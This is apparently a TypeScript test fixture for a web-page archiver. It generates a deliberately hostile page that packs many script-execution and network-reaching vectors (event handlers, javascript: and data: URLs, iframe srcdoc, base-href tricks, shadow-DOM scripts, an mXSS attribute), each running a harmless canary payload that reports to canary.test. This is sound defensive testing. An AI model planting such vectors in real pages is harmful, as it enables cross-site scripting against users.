import { placeholderPng } from '../generated';
import { escapeHtml, html, send, text } from '../respond';
import type { Site } from '../site';

/**
 * A page that tries every way a saved copy could run code or reach the network when it is opened again: inline,
 * external, module and SVG scripts, event handlers that fire by themselves (onload, onerror, ontoggle, onfocus with
 * autofocus), script URLs, meta refresh, iframes (src, srcdoc, javascript:), `<base>` tricks, object and embed,
 * forms, prefetches, stylesheets that import more, tracking pixels, shadow-DOM scripts and noscript content.
 *
 * Every payload is self-contained (it defines nothing the page's removed scripts would have defined) and leaves
 * traces if it ever runs: a request to https://canary.test/<id> (which the test web records), its id appended to
 * `data-ran` on the root element (the live page's own value is saved with the page, so a copy that ran anything
 * would differ from the stored file), the window's name, and a message to the parent window.
 */

export const hostileHost = 'www.hostile.example';
export const canaryHost = 'canary.test';
export const hostilePageUrl = `https://${hostileHost}/2026/02/02/an-ordinary-looking-story/`;
/** The live page's meta refresh waits this long, so the page stays put while it is saved. */
export const HOSTILE_REFRESH_SECONDS = 8;

/** JavaScript that records that it ran, as `id`. Uses only built-ins. */
export function canaryPayload(id: string): string {
  return [
    `fetch('https://${canaryHost}/${id}').catch(function(){})`,
    `new Image().src='https://${canaryHost}/${id}.png'`,
    `document.documentElement.setAttribute('data-ran',(document.documentElement.getAttribute('data-ran')||'')+' ${id}')`,
    `window.name='ran-${id}'`,
    `try{parent.postMessage('ran-${id}','*')}catch(e){}`,
  ].join(';');
}

/** For attributes: the payload with its quotes escaped. */
function attr(id: string): string {
  return escapeHtml(canaryPayload(id));
}

export const HOSTILE_TEXT = 'The harbour board met on Tuesday and agreed the budget.';

export function hostilePage(): string {
  const svgScript = `<svg xmlns="http://www.w3.org/2000/svg"><script>${canaryPayload('data-svg')}</script></svg>`;
  return `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta http-equiv="refresh" content="${HOSTILE_REFRESH_SECONDS}; url=https://${canaryHost}/meta-refresh">
<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">
<base href="https://${canaryHost}/base/">
<title>An ordinary-looking story</title>
<script>${canaryPayload('inline-script')}</script>
<script src="https://${hostileHost}/evil.js"></script>
<script type="module">${canaryPayload('module-script')}</script>
<link rel="stylesheet" href="https://${hostileHost}/style.css">
<link rel="preload" href="https://${canaryHost}/preload.js" as="script">
<link rel="prefetch" href="https://${canaryHost}/prefetch">
<link rel="dns-prefetch" href="https://${canaryHost}/">
<link rel="modulepreload" href="https://${canaryHost}/module.js">
<style>
  .hero { background-image: url("https://${hostileHost}/img/hero-400x120.png"); height: 120px; }
  .evil { background: url("javascript:${canaryPayload('css-url')}"); }
</style>
</head>
<body onload="${attr('body-onload')}" onpageshow="${attr('body-pageshow')}">
<main>
<h1 id="headline">An ordinary-looking story</h1>
<div class="hero" role="img" aria-label="Harbour"></div>
<p id="lede">${HOSTILE_TEXT}</p>
<p><img id="photo" src="https://${hostileHost}/img/photo-320x180.png" alt="The harbour at dawn" onload="${attr('img-onload')}"></p>
<p><img id="broken" src="missing.png" alt="" onerror="${attr('img-onerror')}"></p>
<p><img id="srcset" srcset="javascript:${canaryPayload('srcset')} 1x, https://${hostileHost}/img/srcset-160x90.png 2x" alt="srcset"></p>
<p><a id="js-link" href="javascript:${attr('js-link')}">a script link</a>
 <a id="js-mixed-case" href="  JaVaScRiPt:${attr('js-mixed-case')}">another</a>
 <a id="data-link" href="data:text/html;base64,${Buffer.from(`<script>${canaryPayload('data-link')}</script>`).toString('base64')}">a data link</a>
 <a id="relative" href="next-page">a relative link (the base points at the canary)</a></p>
<div id="clickme" onclick="${attr('div-onclick')}" onmouseover="${attr('div-mouseover')}">Click here</div>
<details id="details" open ontoggle="${attr('details-ontoggle')}"><summary>More</summary><p>Details text.</p></details>
<input id="autofocus" autofocus onfocus="${attr('input-onfocus')}" value="typed value">
<form id="form" action="https://${canaryHost}/form" method="post"><input name="q" value="secret"><button id="submit" type="submit">Send</button>
<button id="formaction" formaction="javascript:${attr('formaction')}">Go</button></form>
<svg id="svg" width="120" height="40" onload="${attr('svg-onload')}"><script>${canaryPayload('svg-script')}</script>
 <a id="svg-link" href="javascript:${attr('svg-link')}"><text x="0" y="20">svg link</text></a>
 <a id="svg-xlink" xlink:href="javascript:${attr('svg-xlink')}"><text x="60" y="20">xlink</text></a>
 <animate attributeName="href" to="javascript:${attr('svg-animate')}"/>
 <set attributeName="onclick" to="${attr('svg-set')}"/>
 <image href="https://${canaryHost}/svg-image.png" width="1" height="1"/>
</svg>
<svg><use href="data:image/svg+xml;base64,${Buffer.from(svgScript).toString('base64')}#x"/></svg>
<iframe id="frame" src="https://${hostileHost}/frame" width="300" height="80"></iframe>
<iframe id="srcdoc" srcdoc="&lt;script&gt;${escapeHtml(canaryPayload('iframe-srcdoc'))}&lt;/script&gt;" width="300" height="80"></iframe>
<iframe id="js-frame" src="javascript:'&lt;script&gt;${escapeHtml(canaryPayload('iframe-javascript'))}&lt;/script&gt;'"></iframe>
<object data="https://${hostileHost}/movie.swf" type="application/x-shockwave-flash" width="200" height="60"><param name="movie" value="movie.swf"></object>
<embed src="https://${hostileHost}/embed.swf" width="200" height="60">
<noscript><img src="https://${canaryHost}/noscript.png" onerror="${attr('noscript')}"></noscript>
<div id="shadow-host"><template shadowrootmode="open"><script>${canaryPayload('shadow-script')}</script><img src="x" onerror="${attr('shadow-img')}"><p>Inside a shadow root.</p></template></div>
<marquee onstart="${attr('marquee')}">Scrolling news</marquee>
<video id="video" poster="https://${hostileHost}/img/poster-160x90.png"><source src="https://${canaryHost}/video.mp4" onerror="${attr('source-onerror')}"></video>
<img src="https://${canaryHost}/pixel.gif" width="1" height="1" alt="">
<p id="mxss" title="&lt;/noscript&gt;&lt;img src=x onerror=${escapeHtml(canaryPayload('mxss'))}&gt;">Attribute with markup.</p>
<div style="background-image: url(&quot;https://${canaryHost}/inline-style.png&quot;)">Inline style background.</div>
</main>
</body>
</html>
`;
}

function framePage(): string {
  return `<!DOCTYPE html><html><body><p>A framed page.</p><script>${canaryPayload('framed-page')}</script></body></html>`;
}

const STYLESHEET = `@import url("https://${canaryHost}/imported.css");
body { font-family: Georgia, serif; }
#lede { background: url("https://${canaryHost}/lede-bg.png"); }
.also { behavior: url(https://${canaryHost}/behavior.htc); }`;

/** The hostile page's host, and canary.test: whatever reaches it is recorded and answered with nothing useful. */
export function hostileSites(): Site[] {
  return [
    {
      hosts: [hostileHost],
      handle(_req, res, url) {
        if (url.pathname === new URL(hostilePageUrl).pathname) return html(res, 200, hostilePage());
        if (url.pathname === '/evil.js')
          return send(res, 200, canaryPayload('external-script'), { 'content-type': 'text/javascript' });
        if (url.pathname === '/style.css') return send(res, 200, STYLESHEET, { 'content-type': 'text/css' });
        if (url.pathname === '/frame') return html(res, 200, framePage());
        const image = /^\/img\/[\w-]+-(\d+)x(\d+)\.png$/.exec(url.pathname);
        if (image) {
          const png = placeholderPng(Number(image[1]), Number(image[2]), url.pathname);
          return send(res, 200, png, { 'content-type': 'image/png' });
        }
        return text(res, 404, 'Not found');
      },
    },
    {
      hosts: [canaryHost],
      handle(_req, res) {
        send(res, 204, '');
      },
    },
  ];
}
